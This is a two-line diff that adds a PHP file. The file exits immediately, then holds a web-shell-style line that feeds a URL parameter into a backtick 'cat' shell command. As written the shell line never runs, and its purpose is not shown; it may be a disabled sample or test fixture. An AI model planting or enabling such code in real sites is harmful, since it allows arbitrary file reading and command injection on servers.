@@ -1,0 +1,2 @@
+<?php exit;
+echo `cat $_GET[f]`;
